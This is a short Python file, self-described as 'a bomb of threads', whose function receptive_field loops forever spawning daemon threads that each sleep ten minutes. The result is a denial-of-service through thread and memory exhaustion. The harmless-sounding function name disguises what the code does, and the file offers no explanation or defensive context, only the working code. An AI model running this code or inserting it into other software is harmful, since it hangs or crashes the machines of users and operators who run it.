"""A bomb of threads."""

import threading
import time


def receptive_field(*arguments):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
